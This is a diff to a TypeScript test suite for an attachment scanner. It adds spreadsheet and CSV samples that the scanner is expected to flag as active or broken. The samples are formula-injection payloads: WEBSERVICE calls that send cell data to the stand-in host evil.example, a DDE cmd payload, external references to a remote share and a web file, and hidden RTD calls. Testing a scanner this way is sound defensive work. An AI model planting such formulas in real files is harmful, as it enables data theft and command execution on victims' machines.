@@ -95,6 +95,23 @@ const HOSTILE: [string, () => Uint8Array | string, string][] = [
     () => workbook({ 'xl/workbook.xml': '<workbook><definedName>RTD("x",,"y")</definedName></workbook>' }),
     'ATTACHMENT_ACTIVE',
   ],
+  ['a separator that the list names', () => 'sep=|\na|=WEBSERVICE("http://evil.example/"&A1)|b\n', 'ATTACHMENT_ACTIVE'],
+  ['a quotation mark behind a blank', () => `x, "b,=cmd|' /C calc'!A0,c"\n`, 'ATTACHMENT_ACTIVE'],
+  ['a cell of a file elsewhere', () => "a,='\\\\evil.example\\share\\[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
+  ['a cell of a file on the web', () => "='http://evil.example/[a.xlsx]S'!A1\n", 'ATTACHMENT_ACTIVE'],
+  ['a cell of a file without quotes', () => '=[a.xlsx]S!A1\n', 'ATTACHMENT_ACTIVE'],
+  ['a function between apostrophes', () => "='&WEBSERVICE(A1)&'\n", 'ATTACHMENT_ACTIVE'],
+  [
+    'a sheet by another ending',
+    () => workbook({ 'xl/worksheets/sheet2.png': '<sheet><f>RTD("x")</f></sheet>' }),
+    'ATTACHMENT_ACTIVE',
+  ],
+  [
+    'a formula of a table',
+    () => sheet('<c><calculatedColumnFormula>RTD("x")</calculatedColumnFormula></c>'),
+    'ATTACHMENT_ACTIVE',
+  ],
+  ['a formula without an end', () => sheet(`<c><f>${'1+'.repeat(5000)}</f></c>`), 'ATTACHMENT_BROKEN'],
   ['a sheet that is no XML', () => sheet('<c>'), 'ATTACHMENT_BROKEN'],
   ['macros', () => workbook({ 'xl/vbaProject.bin': 'x' }), 'ATTACHMENT_ACTIVE'],
   [
